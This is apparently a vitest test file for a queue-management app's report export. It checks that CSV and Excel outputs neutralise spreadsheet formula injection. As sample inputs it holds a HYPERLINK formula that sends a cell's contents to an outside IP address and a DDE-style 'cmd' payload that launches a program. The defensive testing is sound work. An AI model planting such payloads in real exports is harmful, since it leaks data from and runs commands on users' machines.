import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/reports/export.js';
import { manualClock, startTestServer, type TestServer } from '../helpers/test-server.js';

/**
 * Names typed on the admin pages end up in the director's spreadsheet. A name starting with =, +,
 * -, @ must arrive there as text, not as a live formula (OWASP "CSV injection").
 */
const HYPERLINK = '=HYPERLINK("http://10.0.0.66/x?d="&A1,"Bấm vào đây")';
const clock = manualClock(Date.parse('2026-11-23T15:00:00+07:00'));
let s: TestServer;
let csv = '';
let xlsx: Buffer;

/**
 * RFC 4180 fields with ";" between them, as a spreadsheet under Vietnamese regional settings
 * splits the export (quotes may hold separators, quotes and line breaks).
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  return rows;
}

beforeAll(async () => {
  s = await startTestServer({ clock });
  const admin = (method: string, path: string, body?: unknown) => s.api(method, path, { token: s.adminToken, body });
  // Through the admin API, as an admin (or someone with a stolen admin session) would type them.
  expect((await admin('PATCH', '/admin/services/1', { name: { vi: HYPERLINK, en: '+cmd|" /C calc"!A0' } })).status).toBe(200);
  const counter = await admin('POST', '/admin/counters', { number: 9, name: '@SUM(1+1)', serviceIds: [1], active: true });
  expect(counter.status).toBe(201);
  const officer = await admin('POST', '/users', { username: '-canbo', password: 'mat-khau-1', role: 'officer' });
  expect(officer.status).toBe(201);
  // Two served tickets today at that counter by that officer, written as scripts/seed-history does.
  const ins = s.db.prepare(
    `INSERT INTO tickets (id, business_day, service_id, issue_service_id, seq, number, priority, status, issued_at, queued_at, called_at, completed_at, counter_id, officer_id)
     VALUES (?, '2026-11-23', 1, 1, ?, ?, 0, 'done', ?, ?, ?, ?, ?, ?)`,
  );
  const at = (hhmm: string) => Date.parse(`2026-11-23T${hhmm}:00+07:00`);
  ins.run('X'.repeat(22), 1, '1001', at('08:00'), at('08:00'), at('08:10'), at('08:20'), counter.body.id, officer.body.id);
  ins.run('Y'.repeat(22), 2, '1002', at('08:05'), at('08:05'), at('08:25'), at('08:40'), counter.body.id, officer.body.id);
  const res = await fetch(`${s.url}/api/v1/admin/reports.csv?from=2026-11-23&to=2026-11-23`, { headers: { authorization: `Bearer ${s.adminToken}` } });
  expect(res.status).toBe(200);
  csv = await res.text();
  const x = await fetch(`${s.url}/api/v1/admin/reports.xlsx?from=2026-11-23&to=2026-11-23`, { headers: { authorization: `Bearer ${s.adminToken}` } });
  xlsx = Buffer.from(await x.arrayBuffer());
});
afterAll(() => s.close());

describe('CSV export against formula injection', () => {
  it('gives every text cell that would be a formula a leading apostrophe, and keeps the text otherwise whole', () => {
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    const names = rows.map((r) => r[1]);
    expect(names).toContain(`'${HYPERLINK}`);
    expect(names).toContain("'@SUM(1+1)");
    expect(names).toContain("'-canbo");
    // No cell anywhere starts a formula, except plain numbers (with "," as the decimal mark).
    for (const cell of rows.flat()) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(,\d+)?$/);
    }
  });

  it('keeps numbers numbers', () => {
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    const service = rows.find((r) => r[1] === `'${HYPERLINK}`)!;
    // Tickets 2, served 2, wait average (10 + 20) / 2 = 15 minutes.
    expect(service.slice(2, 4)).toEqual(['2', '2']);
    expect(service[7]).toBe('15');
    expect(csvField(-3)).toBe('-3');
    expect(csvField(-0.5)).toBe('-0,5');
    expect(csvField(12)).toBe('12');
  });

  it('escapes each dangerous first character, and quotes separators so no cell can start inside another', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@A1')).toBe("'@A1");
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    // Excel under Vietnamese regional settings splits on ";": the cell stays one quoted cell.
    expect(csvField('Quầy 1;=1+1')).toBe('"Quầy 1;=1+1"');
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField('Đất đai')).toBe('Đất đai');
    expect(csvField(null)).toBe('');
  });

  it('the Excel file holds the same names as text, unchanged (it writes formulas only when asked to)', async () => {
    const sheets = await readXlsxFile(xlsx);
    const summary = sheets.find((sh: any) => sh.sheet === 'Tổng hợp')!.data as unknown[][];
    const names = summary.map((r) => r[1]);
    expect(names).toContain(HYPERLINK);
    expect(names).toContain('@SUM(1+1)');
    expect(names).toContain('-canbo');
  });
});
